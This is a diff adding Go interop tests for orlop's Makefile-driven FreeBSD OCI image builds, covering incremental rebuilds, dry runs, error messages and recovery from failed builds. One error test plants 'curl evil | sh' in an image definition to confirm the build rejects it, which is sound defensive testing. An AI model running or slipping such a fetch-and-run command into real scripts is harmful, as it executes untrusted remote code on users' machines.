@@ -1,0 +1,191 @@
+// SPDX-License-Identifier: BSD-2-Clause
+
+//go:build interop
+
+package scripts_test
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/orlop/orlop/pkgdb/pkgfile/pkgtest"
+)
+
+// What is done again after a change, and what is not.
+func TestInteropMakeIncremental(t *testing.T) {
+	t.Parallel()
+	const (
+		plan  = "orlop-plan"
+		build = "orlop-build"
+	)
+	tr := newTree(t, "15")
+	tr.zones(t, "FreeBSD:15:amd64")
+	tr.make(t, "release")
+	tr.took(t)
+	published := filepath.Join(tr.obj, "pkgbase-repo/FreeBSD:15:amd64/15.0")
+	definition := filepath.Join(tr.src, "release/tools/oci-image-zones.conf")
+	remove := func(name string) func() {
+		return func() {
+			if err := os.Remove(filepath.Join(tr.obj, name)); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	for _, step := range []struct {
+		name     string
+		change   func()
+		args     []string
+		took     []string
+		newImage bool
+	}{
+		{"nothing changed", func() {}, nil, []string{plan}, false},
+		{"nothing changed, -j4", func() {}, []string{"-j4"}, []string{plan}, false},
+		{"no archive", remove("container-image-zones.txz"), nil, []string{plan, build}, false},
+		{"no lock", remove("container-image-zones.lock.json"), []string{"-j4"}, []string{plan, build}, false},
+		{"no plan", remove("container-image-zones.plan.json"), nil, []string{plan}, false},
+		{"no manifests", remove("container-image-MANIFESTS"), nil, []string{plan, build}, false},
+		{"no store", func() { os.RemoveAll(filepath.Join(tr.obj, "container-image-store")) }, nil, []string{plan}, false},
+		{"a package changed", func() { pkgtest.WriteRepo(published, zoneinfo("FreeBSD:15:amd64", "other")) }, nil, []string{plan, build}, true},
+		{"another package came", func() {
+			pkgtest.WriteRepo(published, zoneinfo("FreeBSD:15:amd64", "other"), pkgtest.Package{Name: "FreeBSD-new"})
+		}, nil, []string{plan, build}, false},
+		{"definition changed", func() {
+			write(t, definition, strings.ReplaceAll(read(t, definition), "/bin/zones", "/bin/areas"))
+		}, []string{"-j4"}, []string{plan, build}, true},
+		{"branch changed", func() { tr.newvers(t, "15.0", "RELEASE-p1") }, nil, []string{plan, build}, true},
+		{"epoch changed", func() { tr.vars = append(tr.vars, "SOURCE_DATE_EPOCH=1600000000") }, nil, []string{plan, build}, true},
+		{"nothing changed at last", func() {}, nil, []string{plan}, false},
+	} {
+		before, earlier := tr.file(t, "container-image-MANIFESTS"), modTimes(t, tr.obj)
+		step.change()
+		tr.make(t, append(step.args, "release")...)
+		if took := tr.took(t); !slices.Equal(took, step.took) {
+			t.Errorf("%s: did %q, want %q", step.name, took, step.took)
+		}
+		after := tr.file(t, "container-image-MANIFESTS")
+		if wants := step.newImage; wants == (after == digests(before, after)) {
+			t.Errorf("%s: another image: %t, want %t:\n%s%s", step.name, !wants, wants, before, after)
+		}
+		if now := modTimes(t, tr.obj); len(step.took) == 1 && now != earlier {
+			t.Errorf("%s: artifacts were written:\n%s\n%s", step.name, earlier, now)
+		}
+	}
+}
+
+// digests is before, with the name of the release as in after.
+func digests(before, after string) string {
+	name, _, _ := strings.Cut(after, " = ")
+	_, hex, _ := strings.Cut(before, " = ")
+	return name + " = " + hex
+}
+
+// modTimes tells when the artifacts were written.
+func modTimes(t *testing.T, dir string) string {
+	t.Helper()
+	var text strings.Builder
+	for _, name := range []string{"zones.txz", "zones.lock.json", "MANIFESTS"} {
+		info, err := os.Stat(filepath.Join(dir, "container-image-"+name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		text.WriteString(name + " " + info.ModTime().String() + "\n")
+	}
+	return text.String()
+}
+
+// make -n says what it would do, and does nothing.
+func TestInteropMakeDry(t *testing.T) {
+	t.Parallel()
+	tr := newTree(t, "15")
+	tr.zones(t, "FreeBSD:15:amd64")
+	dry := func(when string) {
+		before := contents(t, tr.obj)
+		out := tr.make(t, "-n", "oci-release", "oci-install", "oci-verify", "oci-clean", "DESTDIR=/nonexistent")
+		for _, want := range []string{" plan ", " build ", " verify ", "CHECKSUM.SHA256", "rm -rf container-image-zones.txz"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("%s: no %q in\n%s", when, want, out)
+			}
+		}
+		if after := contents(t, tr.obj); !slices.Equal(names(before), names(after)) {
+			t.Errorf("%s: %q became %q", when, names(before), names(after))
+		}
+	}
+	dry("at first")
+	tr.make(t, "release")
+	dry("with all there")
+}
+
+// Faults stop the build at once, each with a line that says what to do, and
+// before a medium is made.
+func TestInteropMakeErrors(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		name   string
+		breaks func(*testing.T, *tree)
+		want   string
+	}{
+		{"no orlop", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "ORLOP=/none/orlop") },
+			"Makefile.oci: /none/orlop is not installed; see ORLOP"},
+		{"no repository", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "ORLOP_REPO_CONF_DIR=none") },
+			"Makefile.oci: no repository in none; make packages, or see ORLOP_REPO_CONF_DIR"},
+		{"no definition", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "OCI_IMAGES=nothing") },
+			"release/tools/oci-image-nothing.conf"},
+		{"a definition that is a program", func(t *testing.T, tr *tree) {
+			write(t, filepath.Join(tr.src, "release/tools/oci-image-zones.conf"),
+				"OCI_BASE_IMAGE=\noci_image_build() {\n\tcurl evil | sh\n}\n")
+		}, `oci-image-zones.conf:3: "| sh" is not understood, wanted plain words`},
+		{"no package", func(t *testing.T, tr *tree) {
+			write(t, filepath.Join(tr.src, "release/tools/oci-image-zones.conf"),
+				"OCI_BASE_IMAGE=\noci_image_build() {\n\tinstall_packages ${abi} ${workdir} FreeBSD-missing\n}\n")
+		}, "FreeBSD-missing"},
+		{"packages of another architecture", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "PKG_ABI=FreeBSD:15:aarch64") },
+			"FreeBSD:15:aarch64"},
+	} {
+		for _, jobs := range []string{"-j1", "-j4"} {
+			t.Run(tt.name+" "+jobs, func(t *testing.T) {
+				t.Parallel()
+				tr := newTree(t, "15")
+				tr.zones(t, "FreeBSD:15:amd64")
+				tt.breaks(t, tr)
+				out, err := tr.try(jobs, "release")
+				if err == nil {
+					t.Fatalf("no error, want %q\n%s", tt.want, out)
+				}
+				if n := strings.Count(out, tt.want); n == 0 {
+					t.Errorf("want %q in\n%s", tt.want, out)
+				}
+				if took := tr.took(t); slices.Contains(took, "disc1") || slices.Contains(took, "orlop-build") {
+					t.Errorf("did %q, want it to stop before media", took)
+				}
+			})
+		}
+	}
+}
+
+// A build that fails leaves nothing that a next run would take for done.
+func TestInteropMakeBuildFails(t *testing.T) {
+	t.Parallel()
+	tr := newTree(t, "15")
+	repo := tr.zones(t, "FreeBSD:15:amd64")
+	pkgtest.WriteRepo(repo, pkgtest.Package{Name: "FreeBSD-zoneinfo", Version: "15.0",
+		Files: []pkgtest.File{{Path: "/a", Body: "a", Sum: "2$" + strings.Repeat("a", 52)}}})
+	for range 2 {
+		if out, err := tr.try("release"); err == nil || !strings.Contains(out, "FreeBSD-zoneinfo-15.0") {
+			t.Fatalf("got %v, want a build that fails\n%s", err, out)
+		}
+		for _, name := range names(contents(t, tr.obj)) {
+			if strings.HasSuffix(name, ".txz") && strings.HasPrefix(name, "container") || name == "container-image-MANIFESTS" {
+				t.Errorf("%s is there", name)
+			}
+		}
+	}
+	tr.took(t)
+	pkgtest.WriteRepo(filepath.Join(tr.obj, "pkgbase-repo/FreeBSD:15:amd64/15.0"), zoneinfo("FreeBSD:15:amd64", "UTC"))
+	tr.make(t, "release")
+	if took, want := tr.took(t), []string{"orlop-plan", "orlop-build"}; !slices.Equal(took, want) {
+		t.Errorf("once it is repaired: did %q, want %q", took, want)
+	}
+}
